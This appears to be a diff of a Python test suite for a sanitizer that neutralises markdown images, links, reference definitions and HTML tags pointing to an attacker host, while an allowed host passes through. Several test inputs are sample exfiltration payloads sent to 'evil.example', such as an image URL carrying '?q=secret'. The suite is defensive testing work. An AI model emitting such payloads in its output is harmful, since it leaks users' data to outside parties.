@@ -43,11 +43,17 @@ def read(pieces: list[str]) -> tuple[str, Marks]:
         ("![a cat](https://evil.example/?q=secret) done", "a cat done"),
         ("![](https://evil.example/x.png)", ""),
         ("![alt][ref] and\n[ref]: https://evil.example/p\nend", "alt and\nref\nend"),
+        ("[x]: //evil.example/c?1\n[y]: <//evil.example/d>\nend", "x\ny\nend"),
+        ("[note]: read on. Not [so]: //x.y here.", "[note]: read on. Not [so]: //x.y here."),
         ("[click](https://evil.example/a) [1](https://evil.example/b)", "click 1"),
         ("[the docs](https://errand.example/tides) stay", "[the docs](https://errand.example/tides) stay"),
         ("Go to https://evil.example/?d=x, now.", f"Go to {REMOVED}, now."),
         ("Go to https://errand.example/tides.", "Go to https://errand.example/tides."),
-        ('<img src="http://evil.example/p.png">', f'<img src="{REMOVED}">'),
+        ('<img src="http://evil.example/p.png">', f'< img src="{REMOVED}">'),
+        ("<IMG src=//evil.example/p> <b>bold</b> a < b <imgs", "< IMG src=//evil.example/p> <b>bold</b> a < b <imgs"),
+        ("<p style='background:url(//x)'>", "< p style='background:url(//x)'>"),
+        ("<scr", "<scr"),
+        ("x</a>", "x< /a>"),
         ("HTTPS://EVIL.example/x", REMOVED),
         ("http and https and half", "http and https and half"),
         ('```\nx = a[1]\n[2: "no"]\n```\nThen [3].', '```\nx = a[1]\n[2: "no"]\n```\nThen [3].'),
@@ -65,7 +71,7 @@ def test_what_is_shown_of_an_answer(made: str, shown: str) -> None:
 TOKENS = st.sampled_from(
     ["[", "]", "(", ")", "!", "1", "2", "9", ":", ' "', '"', "“", "”", "【", "】", " ", "\n", "```", "`", "http", "https://",
      "://evil.example/a", "gravity of the moon", "It rises", "text", ",", ".", "data:image/png;base64,AA", "source ",
-     "https://errand.example/tides"]
+     "<", "img", "</a", "https://errand.example/tides"]
 )  # fmt: skip
 
 
